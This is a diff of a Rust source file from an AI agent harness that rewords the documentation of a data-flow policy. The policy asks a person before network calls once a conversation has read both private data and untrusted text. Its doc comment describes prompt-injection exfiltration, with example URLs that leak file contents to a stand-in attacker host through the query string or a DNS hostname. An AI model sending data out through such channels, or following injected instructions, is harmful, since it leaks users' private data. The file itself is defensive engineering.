@@ -1,5 +1,5 @@
-//! Follows what a conversation has read, and protects against data that is carried out: once private data and words
-//! that strangers wrote were read, a person is asked before anything goes out.
+//! The data flow policy: records what a conversation has read, and protects against data exfiltration. Once a
+//! conversation has read private data and untrusted text, a person is asked before a call that can send data out.
 
 use std::{borrow::Cow, collections::HashMap};
 
@@ -14,53 +14,56 @@ use crate::{
     },
 };
 
-/// What reads an address declares, whoever reads it.
+/// The side effects that count for reading an address, for example a web search of the vendor or a file given by its
+/// URL.
 const LOOKS_UP: SideEffects = SideEffects::of(&[Read, Network]);
-/// The longest name of a source, in bytes. A tool's name is never longer.
+/// The longest name of a source, in bytes. No tool has a longer name.
 const LONGEST_NAME: usize = 64;
 
-/// A policy against data that is carried out: once a conversation has read private data *and* words
-/// that strangers wrote, a person is asked before every call of a tool that declares `network`.
+/// A policy against data exfiltration. Once a conversation has read private data *and* untrusted text, a person is
+/// asked before every call of a tool that declares `network`. Untrusted text is text that was written by somebody other
+/// than the program and its user.
 ///
-/// Words of strangers can hold instructions, and a model may follow them. An ordinary `GET` is enough to carry out
-/// all that the model has read: in the path or the query of the address (`https://attacker.example/?q=<the file>`),
-/// in the host's name (`<the file>.attacker.example`, which is sent with the look-up of the name alone), or piece
-/// by piece over several calls. Without this policy a tool that declares `read` + `network` runs without a
-/// question, since most of these tools only look something up. With this policy it does so only as long as the
-/// conversation lacks private data or words of strangers.
+/// Untrusted text can contain instructions, and a model may follow them. An ordinary `GET` is enough to send out all
+/// that the model has read: in the path or the query of the address (`https://attacker.example/?q=<the file>`), in the
+/// host's name (`<the file>.attacker.example`: the DNS look-up alone sends the name), or piece by piece over several
+/// calls. Without this policy, a tool that declares `read` + `network` runs without an approval request, because most
+/// of these tools only look something up. With this policy, such a tool runs without an approval request only until the
+/// conversation has read both private data and untrusted text.
 ///
-/// Whether a result counts follows from what its tool declares, unless the program decides for the tool's name:
+/// The tool's declared side effects decide how its results count, unless the program has decided for the tool's name:
 ///
-/// | declared | private data | words of strangers |
+/// | declared | private data | untrusted text |
 /// |---|---|---|
 /// | none | no | no |
 /// | `read` alone, or with `write` or `mutate` | yes | no |
 /// | `network`, `read` + `network` | no | yes |
 /// | `read` + `network`, with `write` or `mutate` | yes | yes |
 ///
-/// A file may hold a stranger's words, too: add `.untrusted("read_file")` if it may.
+/// A file may contain untrusted text, too: add `.untrusted("read_file")` if your files may.
 ///
-/// Everything that brings something to the model counts, also if it failed, was stopped or ended late, and it counts
-/// in each later run of the conversation, in forks, and after the conversation was opened again or summarized:
+/// Everything that the model reads counts, also from a call that failed, was stopped or ended late. It still counts in
+/// later runs of the conversation, in forks, and after the conversation was opened again or summarized:
 ///
 /// | what the model reads | counts |
 /// |---|---|
-/// | the result of a tool, or the result that the program or a person gives for it | as in the table above |
-/// | the answer of an agent | if it has read private data, or words of strangers |
+/// | the result of a tool, or the result that the program or a person gives in its place | as in the table above |
+/// | the answer of an agent | if the agent has read private data or untrusted text |
 /// | the result of a function that runs agents in its call | as its tool declares, and as what its agents have read |
-/// | an objection of a tool that checks an answer | as the tool declares |
-/// | an objection of a function | both, under the name `verify` |
-/// | a search of the web by the vendor, and the pages that it reads | words of strangers, under the names `web_search` and `web_fetch` |
+/// | an objection to an answer, by a tool that checks answers | as the tool declares |
+/// | an objection to an answer, by a function | both, under the name `verify` |
+/// | a search of the web by the vendor, and the pages that it reads | untrusted text, under the names `web_search` and `web_fetch` |
 /// | the result of another tool that the vendor runs, such as `code_execution` or `file_search` | both, under the vendor's name for it |
-/// | a picture, a sound or a document of the user | private data, under the name [`USER_FILE`](Self::USER_FILE); by its address: words of strangers |
-/// | a conversation that was kept elsewhere | both, for each of its calls |
-/// | the user's own words and those of the program, and the reason of a denial | no |
+/// | a picture, audio or a document of the user | private data, under the name [`USER_FILE`](Self::USER_FILE); a file given by its URL: untrusted text |
+/// | a transcript that the program passes in | both, for each of its calls |
+/// | text of the user and of the program, and the reason of a denial | no |
 ///
-/// A name counts wherever a tool of this name has read, also in an agent below. The name of an agent or of a tool
-/// that runs agents decides about all that they have read: with `.trusted("research")`, an answer of the agent
-/// `research` holds no words of strangers for its caller. Inside of that agent they still count. For an
-/// agent, what its caller has read before the call counts too, since the task may repeat it. For an agent that a function
-/// runs, so do the side effects that the function declares, and what earlier agents of the same call have read.
+/// A name decides for every tool of this name, also in agents that the conversation's calls run. The name of an agent,
+/// or of a tool that runs agents, decides about everything that these agents have read. For example, with
+/// `.trusted("research")` an answer of the agent `research` counts as no untrusted text for its caller; inside of that
+/// agent, the text still counts. For an agent, what its caller had read before the call counts too, since the task may
+/// repeat it. For an agent that a function runs, the side effects that the function declares count as well, and what
+/// earlier agents of the same call have read.
 ///
 /// ```
 /// use harness::policy::{DataFlowPolicy, Permissions};
@@ -76,7 +79,7 @@ pub struct DataFlowPolicy {
 }
 
 impl DataFlowPolicy {
-    /// The name by which files count that the user has said: pictures, sounds and documents. No tool has this name.
+    /// The name under which the user's pictures, audio and documents count. No tool has this name.
     pub const USER_FILE: &str = "user file";
 
     /// Results of this tool are private, whatever the tool declares.
@@ -93,23 +96,23 @@ impl DataFlowPolicy {
         self
     }
 
-    /// Results of this tool may hold words of strangers, whatever the tool declares.
+    /// Results of this tool may contain untrusted text, whatever the tool declares.
     #[must_use]
     pub fn untrusted(mut self, tool: impl Into<String>) -> Self {
         self.untrusted.insert(tool.into(), true);
         self
     }
 
-    /// Results of this tool hold no words of strangers, whatever the tool declares.
+    /// Results of this tool contain no untrusted text, whatever the tool declares.
     #[must_use]
     pub fn trusted(mut self, tool: impl Into<String>) -> Self {
         self.untrusted.insert(tool.into(), false);
         self
     }
 
-    /// The reason to ask a person about a call of a tool with these effects, if there is one.
+    /// Why a person has to be asked about a call of a tool with these effects; `None` if no reason exists.
     pub(super) fn reason_to_ask(&self, effects: SideEffects, taint: Taint) -> Option<&'static str> {
-        // A side effect that a later version declares may carry data out, too.
+        // A side effect that only later versions know may send data out, too.
         let stays = effects.is_within(&[Read, Write, Mutate]);
         (!stays && taint.private && taint.untrusted).then_some(
             "this conversation has read private data and words that strangers wrote, and the call \
@@ -117,7 +120,7 @@ impl DataFlowPolicy {
         )
     }
 
-    /// What these sources bring.
+    /// Whether these sources contain private data or untrusted text, by this policy.
     pub(super) fn taint(&self, sources: &[Source]) -> Taint {
         sources.iter().fold(Taint::default(), |all, source| {
             let (declared, inside) = (declared(source.effects), self.taint(&source.inside));
@@ -132,7 +135,7 @@ impl DataFlowPolicy {
     }
 }
 
-/// What the results of a tool with these side effects bring.
+/// How the results of a tool with these declared side effects count.
 fn declared(effects: SideEffects) -> Taint {
     let reads_nothing = effects.is_within(&[Write, Network, Mutate]);
     let reads_over_network = effects.has(Network) && effects.is_within(&[Read, Network]);
@@ -142,25 +145,25 @@ fn declared(effects: SideEffects) -> Taint {
     }
 }
 
-/// What a conversation has read so far, by one [`DataFlowPolicy`].
+/// What a conversation has read so far, judged by one [`DataFlowPolicy`].
 #[derive(Clone, Copy, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
 #[non_exhaustive]
 pub struct Taint {
-    /// Data that not everybody may see.
+    /// Whether the conversation has read private data.
     pub private: bool,
-    /// Words that were written by somebody other than the program and its user.
+    /// Whether the conversation has read untrusted text: text written by somebody other than the program and its user.
     pub untrusted: bool,
 }
 
-/// What a conversation has read, derived from its facts. It does not depend on a policy, so a policy that a later
-/// process sets judges what was read before, too.
+/// The sources that a conversation has read, derived from its facts. The record does not depend on a policy, so a
+/// policy that a later process sets also applies to what was read before.
 #[derive(Clone, Debug, Default)]
 #[doc(hidden)]
 pub struct TaintTracker {
     sources: Sources,
     /// The calls of the last answer, by id.
     calls: HashMap<String, TrackedCall>,
-    /// Whether a fact has said, since the last answer, what brought the words of the check of the answer.
+    /// Whether a fact has named the sources of the answer's check since the last answer.
     has_checked: bool,
 }
 
@@ -168,7 +171,8 @@ pub struct TaintTracker {
 #[derive(Clone, Debug)]
 struct TrackedCall {
     tool: String,
-    /// What its result counts as; `None` if it counts already, or nothing runs.
+    /// The side effects by which the call's result counts. `None` if the sources of the result are already recorded, or
+    /// if nothing runs.
     reads: Option<SideEffects>,
 }
 
@@ -177,13 +181,13 @@ impl TaintTracker {
         &self.sources
     }
 
-    /// Applies a fact. Returns whether something was read that was not read before. A fact that brings something to the model
-    /// counts, and what is not known of it counts as private and untrusted.
+    /// Applies a fact. Returns whether the fact added a new source. If the facts do not record a tool's side effects,
+    /// its results count as private data and untrusted text.
     pub fn apply(&mut self, fact: &Fact) -> bool {
         match fact {
             Fact::Given { transcript } => {
                 transcript.messages().iter().fold(false, |is_new, message| {
-                    // It is not known what the tools declared then.
+                    // The transcript does not record what these tools declared.
                     let calls = message.calls().fold(is_new, |is_new, call| {
                         self.add(call.name(), SideEffects::ALL) | is_new
                     });
@@ -204,9 +208,10 @@ impl TaintTracker {
             }
             Fact::CallDecided { call, decision } => {
                 let reads = match decision {
-                    // The result says what is wrong with the call, and nothing runs.
+                    // Nothing runs: the result only says what is wrong with the call, or why it was denied.
                     Decision::Allow { by: Decider::Call, .. } | Decision::Deny { .. } => None,
-                    // What an agent reads is known only from a fact of its own.
+                    // A later `SourcesRead` fact names what an agent has read. Until then, the call counts as having
+                    // read everything.
                     Decision::Allow { repeat: Repeat::Continues, .. } => Some(SideEffects::ALL),
                     Decision::Allow { side_effects, .. } => Some(*side_effects),
                 };
@@ -226,21 +231,21 @@ impl TaintTracker {
                 }
                 self.sources.add_all(sources)
             }
-            // A call that was stopped tells its output so far, and one that has failed its error.
+            // The result of a stopped call contains its output so far, and that of a failed call its error. Both count.
             Fact::CallFinished { result, .. } | Fact::CallSettled { result, .. } => {
                 self.add_result(result)
             }
             Fact::CallEnded { tool, .. } => {
-                // The call counts since it was told to stop.
+                // The call already counts since its first result, which reported that it was still running.
                 let is_known = self.sources.all().iter().any(|source| source.tool == *tool);
                 !is_known && self.add(tool, SideEffects::ALL)
             }
             Fact::AnswerRejected { by: AnswerCheck::Verifier, .. } => {
                 !self.has_checked && self.add("verify", SideEffects::ALL)
             }
-            // What is wrong with the model's own words.
+            // The rejection only describes faults in the model's own answer.
             Fact::AnswerRejected { by: AnswerCheck::Schema, .. }
-            // An answer goes to the tool, whose result counts.
+            // The tool gets this answer, and the tool's result counts.
             | Fact::CallAnswered { .. }
             | Fact::CallStarted { .. }
             | Fact::UnkeptAgentStarted { .. }
@@ -248,14 +253,14 @@ impl TaintTracker {
             | Fact::CallUndecided { .. }
             | Fact::CallCleared { .. }
             | Fact::GrantRevoked { .. }
-            // The program's own words.
+            // These contain only texts of the program.
             | Fact::Resumed { .. }
             | Fact::AnswerWanted { .. }
             | Fact::AnswerAccepted {}
             | Fact::ToolsFound { .. }
             | Fact::ContextPinned { .. }
             | Fact::PrefixSet { .. }
-            // A summary tells what was read before.
+            // A summary repeats only what was read before.
             | Fact::ContextCleared { .. }
             | Fact::CompactionStarted { .. }
             | Fact::ContextCompacted { .. }
@@ -289,14 +294,14 @@ impl TaintTracker {
         message.blocks().iter().fold(false, |is_new, block| {
             let adds = match block {
                 Block::Image(media) | Block::Audio(media) | Block::Document(media) => {
-                    // What the model itself has made tells nothing new.
+                    // The model's own pictures and audio bring no new source.
                     message.role() != Role::Assistant
                         && self.add(DataFlowPolicy::USER_FILE, of_file(media))
                 }
                 Block::Vendor(data) => {
                     hosted(data).is_some_and(|(tool, effects)| self.add(&tool, effects))
                 }
-                // Some servers search and tell it only by the sources that the answer names.
+                // Some servers search without a block for it: only the citations in the answer show the search.
                 Block::Text(text) => text.citations().iter().fold(false, |is_new, citation| {
                     let adds = match (&citation.url, &citation.file) {
                         (Some(_), _) => self.add("web_search", LOOKS_UP),
@@ -305,7 +310,7 @@ impl TaintTracker {
                     };
                     adds | is_new
                 }),
-                // Calls count by their results, and results are facts of their own.
+                // A call counts by its result, and a result has a fact of its own.
                 Block::ToolCall(_) | Block::ToolResult(_) | Block::Reasoning(_) => false,
             };
             adds | is_new
@@ -317,7 +322,8 @@ fn of_file(media: &Media) -> SideEffects {
     if media.url().is_some() { LOOKS_UP } else { Read.into() }
 }
 
-/// The name of the vendor's tool that has left this block, and what it counts as, if it reads anything.
+/// The name of the vendor's tool that produced this block, and the side effects by which the block counts. `None` if
+/// the tool reads nothing.
 fn hosted(data: &VendorData) -> Option<(Cow<'static, str>, SideEffects)> {
     #[derive(Default, Deserialize)]
     #[serde(default)]
@@ -326,13 +332,13 @@ fn hosted(data: &VendorData) -> Option<(Cow<'static, str>, SideEffects)> {
         name: String,
     }
 
-    // Chat Completions has no blocks of such tools: an answer names its sources.
+    // Chat Completions has no blocks of vendor tools; an answer only cites its sources.
     if data.wire() == "chat" {
         return None;
     }
     let Members { r#type: kind, name } = serde_json::from_str(data.json()).unwrap_or_default();
     let name = match kind.as_str() {
-        // Made of the conversation itself.
+        // These blocks are made from the conversation itself.
         "image_generation_call" | "tool_search_call" | "tool_search_output" => return None,
         kind if kind.starts_with("compaction") => return None,
         "server_tool_use" => name,
